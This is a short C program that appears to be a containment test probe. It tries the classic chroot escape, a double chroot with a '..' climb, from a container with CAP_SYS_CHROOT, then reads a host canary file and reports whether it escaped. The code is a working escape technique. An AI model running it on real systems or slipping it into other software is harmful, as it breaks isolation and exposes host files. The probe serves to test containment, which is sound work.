/* The classic chroot escape, as a workload with CAP_SYS_CHROOT would try it in a container that
 * has no mount namespace of its own: chroot into a subdirectory while keeping the cwd outside
 * it, climb with "..", chroot to where the climb ended, then read a host file.
 * argv[1]: absolute path of the host's canary file. Prints ESCAPED <content> or HELD <errno>. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    mkdir("/tmp/escape", 0700);
    if (chroot("/tmp/escape") != 0) {
        printf("CHROOT-REFUSED %d\n", errno);
        return 0;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        printf("SECOND-CHROOT-REFUSED %d\n", errno);
    char buf[256] = {0};
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) {
        printf("HELD %d\n", errno);
        return 0;
    }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0)
        buf[strcspn(buf, "\n")] = 0;
    printf("ESCAPED %s\n", buf);
    return 0;
}
